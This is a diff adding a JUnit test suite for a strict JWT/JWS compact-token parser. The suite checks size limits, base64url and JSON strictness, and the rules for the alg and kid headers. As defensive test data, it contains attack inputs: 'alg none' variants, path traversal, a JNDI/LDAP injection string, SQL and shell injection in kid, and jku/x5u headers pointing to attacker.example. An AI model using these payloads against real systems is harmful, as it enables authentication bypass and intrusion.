@@ -1,0 +1,414 @@
+package authoriser.token;
+
+import static authoriser.token.SampleKeys.base64Url;
+import static java.nio.charset.StandardCharsets.ISO_8859_1;
+import static java.nio.charset.StandardCharsets.US_ASCII;
+import static java.nio.charset.StandardCharsets.UTF_16BE;
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+import static org.junit.jupiter.api.Named.named;
+
+import authoriser.reason.Reason;
+import java.util.HexFormat;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.Named;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** The front door, point by point: what has the form of a token, and what has not. */
+class CompactJwsTest {
+    private static final String HEADER = "{\"kid\":\"one\",\"alg\":\"RS256\"}";
+    private static final String PAYLOAD = "{\"sub\":\"jane\",\"exp\":1}";
+    private static final String SIGNATURE = "c2lnbmF0dXJl";
+
+    @Test
+    void takesATokenApart() throws RejectedToken {
+        CompactJws jws = CompactJws.parse(token(HEADER, PAYLOAD));
+
+        assertEquals("one", jws.keyId());
+        assertEquals("jane", jws.claims().subject());
+        assertEquals(
+                base64Url(HEADER) + "." + base64Url(PAYLOAD),
+                new String(jws.signingInput(), US_ASCII));
+        assertEquals(SIGNATURE, jws.signature());
+    }
+
+    // Size
+
+    @Test
+    void takesTwelveKibibytes() throws RejectedToken {
+        String token = tokenOfLength(12 * 1024);
+
+        assertEquals(12 * 1024, token.length());
+        assertEquals("one", CompactJws.parse(token).keyId());
+    }
+
+    @Test
+    void refusesOneCharacterMore() {
+        assertRefused(Reason.TOKEN_MALFORMED, tokenOfLength(12 * 1024) + "A");
+    }
+
+    @Test
+    void refusesFiveMegabytesUnread() {
+        assertRefused(Reason.TOKEN_MALFORMED, ".".repeat(5 * 1024 * 1024));
+    }
+
+    // Parts
+
+    @ParameterizedTest
+    @ValueSource(strings = {"", ".", "..", "...", "....", "e30", "e30.e30", "e30.e30.e30.e30"})
+    void refusesAllButThreeParts(String token) {
+        assertRefused(Reason.TOKEN_MALFORMED, token);
+    }
+
+    @Test
+    void refusesMorePartsThoughTheFirstThreeAreGood() {
+        String good = token(HEADER, PAYLOAD);
+
+        assertRefused(Reason.TOKEN_MALFORMED, good + ".");
+        assertRefused(Reason.TOKEN_MALFORMED, "." + good);
+        assertRefused(Reason.TOKEN_MALFORMED, good + ".e30");
+        assertRefused(Reason.TOKEN_MALFORMED, good + ".e30.e30");
+        assertRefused(Reason.TOKEN_MALFORMED, good.replace(".", ".."));
+    }
+
+    @Test
+    void refusesTheJsonSerialisation() {
+        assertRefused(
+                Reason.TOKEN_MALFORMED,
+                "{\"payload\":\"%s\",\"protected\":\"%s\",\"signature\":\"%s\"}"
+                        .formatted(base64Url(PAYLOAD), base64Url(HEADER), SIGNATURE));
+    }
+
+    @Test
+    void refusesAnEmptyHeaderOrPayload() {
+        assertRefused(Reason.TOKEN_MALFORMED, "." + base64Url(PAYLOAD) + "." + SIGNATURE);
+        assertRefused(Reason.TOKEN_MALFORMED, base64Url(HEADER) + ".." + SIGNATURE);
+    }
+
+    @Test
+    void leavesAnEmptySignatureToTheKeyToRefuse() throws RejectedToken {
+        assertEquals(
+                "",
+                CompactJws.parse(base64Url(HEADER) + "." + base64Url(PAYLOAD) + ".").signature());
+    }
+
+    // Base64url
+
+    @ParameterizedTest
+    @ValueSource(strings = {"=", "==", " ", "\n", "\r\n", "\t", "+", "/", "\0", "é", "\ufeff", "%"})
+    void refusesWhatIsNotBase64UrlInAnyPart(String addition) {
+        String header = base64Url(HEADER);
+        String payload = base64Url(PAYLOAD);
+
+        assertRefused(Reason.TOKEN_MALFORMED, header + addition + "." + payload + "." + SIGNATURE);
+        assertRefused(Reason.TOKEN_MALFORMED, addition + header + "." + payload + "." + SIGNATURE);
+        assertRefused(Reason.TOKEN_MALFORMED, header + "." + payload + addition + "." + SIGNATURE);
+        assertRefused(Reason.TOKEN_MALFORMED, header + "." + addition + payload + "." + SIGNATURE);
+        assertRefused(Reason.TOKEN_MALFORMED, header + "." + payload + "." + SIGNATURE + addition);
+        assertRefused(Reason.TOKEN_MALFORMED, header + "." + payload + "." + addition + SIGNATURE);
+    }
+
+    @Test
+    void refusesASecondSpellingOfTheSameBytesInAnyPart() throws RejectedToken {
+        String oneOver = "{\"kid\":\"one\",\"alg\":\"RS256\"} ";
+        String header = base64Url(oneOver);
+        assertEquals(2, header.length() % 4);
+        String payload = base64Url(PAYLOAD + " ".repeat(4 - (PAYLOAD.length() % 3)));
+        assertEquals(2, payload.length() % 4);
+
+        CompactJws.parse(header + "." + payload + ".QQ");
+        assertRefused(Reason.TOKEN_MALFORMED, next(header) + "." + payload + ".QQ");
+        assertRefused(Reason.TOKEN_MALFORMED, header + "." + next(payload) + ".QQ");
+        assertRefused(Reason.TOKEN_MALFORMED, header + "." + payload + ".QR");
+        assertRefused(Reason.TOKEN_MALFORMED, header + "." + payload + ".QQF");
+        assertRefused(Reason.TOKEN_MALFORMED, header + "." + payload + ".A");
+    }
+
+    // UTF-8 and JSON
+
+    static Stream<Named<byte[]>> notJson() {
+        return Stream.of(
+                named("nothing but a space", " ".getBytes(UTF_8)),
+                named("null", "null".getBytes(UTF_8)),
+                named("array", "[]".getBytes(UTF_8)),
+                named("string", "\"text\"".getBytes(UTF_8)),
+                named("number", "1".getBytes(UTF_8)),
+                named("unfinished", "{\"sub\":\"x\"".getBytes(UTF_8)),
+                named("two objects", "{}{}".getBytes(UTF_8)),
+                named("comment", "{/**/}".getBytes(UTF_8)),
+                named("NUL behind it", "{}\0".getBytes(UTF_8)),
+                named("byte order mark", "\ufeff{}".getBytes(UTF_8)),
+                named("UTF-16", "{\"sub\":\"x\"}".getBytes(UTF_16BE)),
+                named("ISO 8859-1", "{\"sub\":\"ä\"}".getBytes(ISO_8859_1)),
+                named("bad UTF-8 where nobody looks", hex("7B2278223A22FF227D")),
+                named("overlong UTF-8", hex("7B2278223A22C0AF227D")),
+                named("duplicate names", "{\"x\":1,\"x\":1}".getBytes(UTF_8)),
+                named("duplicate by escape", "{\"x\":1,\"\\u0078\":1}".getBytes(UTF_8)),
+                named("duplicate deep", "{\"y\":[{\"x\":1,\"x\":1}]}".getBytes(UTF_8)),
+                named("nested too deep", nested(17)),
+                named("nested very deep", nested(4_000)),
+                named("number too long", ("{\"x\":" + "1".repeat(65) + "}").getBytes(UTF_8)));
+    }
+
+    @ParameterizedTest
+    @MethodSource("notJson")
+    void refusesAHeaderThatIsNotStrictJson(byte[] header) {
+        assertRefused(
+                Reason.TOKEN_MALFORMED,
+                base64Url(header) + "." + base64Url(PAYLOAD) + "." + SIGNATURE);
+    }
+
+    @ParameterizedTest
+    @MethodSource("notJson")
+    void refusesAPayloadThatIsNotStrictJson(byte[] payload) {
+        assertRefused(
+                Reason.TOKEN_MALFORMED,
+                base64Url(HEADER) + "." + base64Url(payload) + "." + SIGNATURE);
+    }
+
+    @Test
+    void takesNestingWithinBounds() throws RejectedToken {
+        String payload = new String(nested(16), UTF_8);
+
+        assertEquals("one", CompactJws.parse(token(HEADER, payload)).keyId());
+    }
+
+    // Header: alg
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "none",
+                "None",
+                "NONE",
+                "nOnE",
+                "",
+                " ",
+                "RS256 ",
+                " RS256",
+                "rs256",
+                "Rs256",
+                "RS384",
+                "RS512",
+                "PS256",
+                "ES256",
+                "ES256K",
+                "EdDSA",
+                "HS256",
+                "HS384",
+                "HS512",
+                "RS256\\u0000",
+                "RSA",
+                "RSA-OAEP",
+                "dir",
+                "SHA256withRSA",
+            })
+    void refusesEveryAlgorithmButRs256(String algorithm) {
+        assertRefused(
+                Reason.TOKEN_ALGORITHM,
+                token("{\"kid\":\"one\",\"alg\":\"" + algorithm + "\"}", PAYLOAD));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"null", "true", "256", "[\"RS256\"]", "{\"RS256\":1}"})
+    void refusesAnAlgorithmThatIsNoString(String algorithm) {
+        assertRefused(
+                Reason.TOKEN_ALGORITHM,
+                token("{\"kid\":\"one\",\"alg\":" + algorithm + "}", PAYLOAD));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"{\"kid\":\"one\"}", "{\"kid\":\"one\",\"ALG\":\"RS256\"}", "{}"})
+    void refusesAHeaderWithoutAlgorithm(String header) {
+        assertRefused(Reason.TOKEN_ALGORITHM, token(header, PAYLOAD));
+    }
+
+    @Test
+    void takesAnAlgorithmWrittenWithEscapes() throws RejectedToken {
+        CompactJws.parse(token("{\"kid\":\"one\",\"\\u0061lg\":\"\\u0052S256\"}", PAYLOAD));
+    }
+
+    // Header: kid
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "null",
+                "1",
+                "true",
+                "[]",
+                "[\"one\"]",
+                "{\"kid\":\"one\"}",
+                "\"\"",
+                "\"\\u0000\"",
+                "\"one\\u0000\"",
+                "\"one\\n\"",
+                "\"one\\u001f\"",
+                "\"one\\u007f\"",
+                "\"one\\u009f\"",
+            })
+    void refusesAKeyIdThatIsNoCleanString(String keyId) {
+        assertRefused(
+                Reason.TOKEN_MALFORMED,
+                token("{\"alg\":\"RS256\",\"kid\":" + keyId + "}", PAYLOAD));
+    }
+
+    @Test
+    void refusesAHeaderWithoutKeyId() {
+        assertRefused(Reason.TOKEN_MALFORMED, token("{\"alg\":\"RS256\"}", PAYLOAD));
+        assertRefused(Reason.TOKEN_MALFORMED, token("{\"alg\":\"RS256\",\"KID\":\"1\"}", PAYLOAD));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "../../../../../dev/null",
+                "file:///etc/passwd",
+                "https://attacker.example/jwks.json",
+                "x' UNION SELECT 'key",
+                "| sleep 10",
+                "${jndi:ldap://attacker.example/a}",
+                "a b",
+                "ключ",
+            })
+    void aKeyIdIsNothingButAName(String keyId) throws RejectedToken {
+        assertEquals(
+                keyId,
+                CompactJws.parse(
+                                token(
+                                        SampleKeys.json(
+                                                java.util.Map.of("alg", "RS256", "kid", keyId)),
+                                        PAYLOAD))
+                        .keyId());
+    }
+
+    @Test
+    void takesAKeyIdOf256Characters() throws RejectedToken {
+        String keyId = "k".repeat(256);
+
+        assertEquals(
+                keyId,
+                CompactJws.parse(token("{\"alg\":\"RS256\",\"kid\":\"" + keyId + "\"}", PAYLOAD))
+                        .keyId());
+    }
+
+    @Test
+    void refusesAKeyIdOf257Characters() {
+        String keyId = "k".repeat(257);
+
+        assertRefused(
+                Reason.TOKEN_MALFORMED,
+                token("{\"alg\":\"RS256\",\"kid\":\"" + keyId + "\"}", PAYLOAD));
+    }
+
+    @Test
+    void refusesAKeyIdOfAHundredKilobytes() {
+        String keyId = "k".repeat(100_000);
+
+        assertRefused(
+                Reason.TOKEN_MALFORMED,
+                token("{\"alg\":\"RS256\",\"kid\":\"" + keyId + "\"}", PAYLOAD));
+    }
+
+    // Header: the rest
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "\"crit\":[\"exp\"]",
+                "\"crit\":[\"b64\"]",
+                "\"crit\":[]",
+                "\"crit\":null",
+                "\"crit\":{\"a\":[1]}",
+                "\"b64\":true",
+                "\"b64\":false",
+                "\"zip\":\"DEF\"",
+                "\"zip\":null",
+                "\"cty\":\"JWT\"",
+                "\"cty\":\"\"",
+            })
+    void refusesWhatWouldChangeTheMeaningOfTheToken(String member) {
+        assertRefused(
+                Reason.TOKEN_MALFORMED,
+                token("{\"alg\":\"RS256\",\"kid\":\"one\"," + member + "}", PAYLOAD));
+        assertRefused(
+                Reason.TOKEN_MALFORMED,
+                token("{" + member + ",\"alg\":\"RS256\",\"kid\":\"one\"}", PAYLOAD));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "\"typ\":\"JWT\"",
+                "\"typ\":\"at+jwt\"",
+                "\"jwk\":{\"kty\":\"RSA\",\"n\":\"AQAB\",\"e\":\"AQAB\",\"kid\":\"one\"}",
+                "\"jku\":\"https://attacker.example/jwks.json\"",
+                "\"x5u\":\"https://attacker.example/chain.pem\"",
+                "\"x5c\":[\"MIIB\"]",
+                "\"x5t\":\"abc\"",
+                "\"CRIT\":[\"exp\"]",
+            })
+    void ignoresEveryOtherMember(String member) throws RejectedToken {
+        assertEquals(
+                "one",
+                CompactJws.parse(
+                                token(
+                                        "{\"alg\":\"RS256\",\"kid\":\"one\"," + member + "}",
+                                        PAYLOAD))
+                        .keyId());
+    }
+
+    @Test
+    void aForeignAlgorithmIsToldBeforeABadKeyId() {
+        assertRefused(Reason.TOKEN_ALGORITHM, token("{\"alg\":\"none\"}", PAYLOAD));
+        assertRefused(
+                Reason.TOKEN_ALGORITHM, token("{\"alg\":\"none\",\"crit\":[\"exp\"]}", PAYLOAD));
+    }
+
+    @Test
+    void theExceptionHoldsNothingOfTheToken() {
+        RejectedToken rejected =
+                assertThrows(
+                        RejectedToken.class,
+                        () -> CompactJws.parse(token(HEADER, "{\"sub\":[\"jane\"]}")));
+
+        assertTrue(rejected.toString().endsWith(": token_malformed"));
+        assertEquals(null, rejected.getCause());
+        assertEquals(0, rejected.getStackTrace().length);
+    }
+
+    private static String token(String header, String payload) {
+        return base64Url(header) + "." + base64Url(payload) + "." + SIGNATURE;
+    }
+
+    /** A token as long as asked for, of which the signature is the longest part. */
+    private static String tokenOfLength(int length) {
+        String signed = base64Url(HEADER) + "." + base64Url(PAYLOAD) + ".";
+        return signed + "A".repeat(length - signed.length());
+    }
+
+    /** The same with its last character replaced by the next one of the alphabet. */
+    private static String next(String part) {
+        int last = part.length() - 1;
+        return part.substring(0, last) + (char) (part.charAt(last) + 1);
+    }
+
+    private static byte[] nested(int depth) {
+        int arrays = depth - 1;
+        return ("{\"x\":" + "[".repeat(arrays) + "]".repeat(arrays) + "}").getBytes(UTF_8);
+    }
+
+    private static byte[] hex(String digits) {
+        return HexFormat.of().parseHex(digits);
+    }
+
+    private static void assertRefused(Reason reason, String token) {
+        assertEquals(
+                reason, assertThrows(RejectedToken.class, () -> CompactJws.parse(token)).reason());
+    }
+}
